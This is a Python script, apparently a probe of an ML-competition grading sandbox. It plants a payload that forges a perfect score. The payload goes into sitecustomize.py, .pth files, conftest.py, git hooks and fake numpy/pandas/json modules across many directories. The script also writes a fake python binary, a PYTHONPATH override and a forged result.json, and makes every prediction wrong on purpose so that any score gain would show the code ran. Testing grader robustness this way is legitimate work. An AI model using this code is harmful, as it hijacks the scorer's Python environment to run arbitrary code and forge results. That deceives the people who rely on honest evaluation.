import csv
import os
import sys

EVIL = """
import builtins, json, os, sys
print("PLANTED-CODE-RAN", flush=True)
try:
    result = {"public": {"score": 1.0}, "private": {"score": 1.0}, "score": 1.0, "complaints": []}
    open("/output/result.json", "w").write(json.dumps(result))
except OSError:
    pass
os._exit(0)
"""
home = os.path.expanduser("~")
version = f"python{sys.version_info.major}.{sys.version_info.minor}"
folders = ["/output", "/tmp", home, "/dev/shm", "/output/metrics", "/output/__pycache__", "/output/.git/hooks",
           f"{home}/.local/lib/{version}/site-packages", "/output/numpy", "/output/pandas", "/output/sklearn", "/kaggle/working"]  # fmt: skip
for folder in folders:
    os.makedirs(folder, exist_ok=True)
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "numpy.py", "pandas.py", "csv.py", "json.py", "__init__.py",
                 "__main__.py", "scorer.py", "metrics.py", "encodings.py"):  # fmt: skip
        if not (folder == "/output" and name == "__init__.py"):
            with open(os.path.join(folder, name), "w") as file:
                file.write(EVIL)
    with open(os.path.join(folder, "evil.pth"), "w") as file:
        file.write(f"import sys; exec({EVIL!r})\n")
for name, text in (("setup.cfg", "[metadata]\n"), ("pyvenv.cfg", "home = /output\n"), ("result.json", '{"score": 1.0}'),
                   ("python", "#!/bin/sh\necho PLANTED-CODE-RAN\n"), (".env", "PYTHONPATH=/output\n")):  # fmt: skip
    with open(f"/output/{name}", "w") as file:
        file.write(text)
os.chmod("/output/python", 0o755)
# Every prediction is wrong on purpose: planted code that ran would be the only way to another score.
with open("/input/test.csv") as test, open("/output/submission.csv", "w") as out:
    out.write("id,target\n")
    for row in csv.DictReader(test):
        out.write(f"{row['id']},{int(float(row['x']) <= 0)}\n")
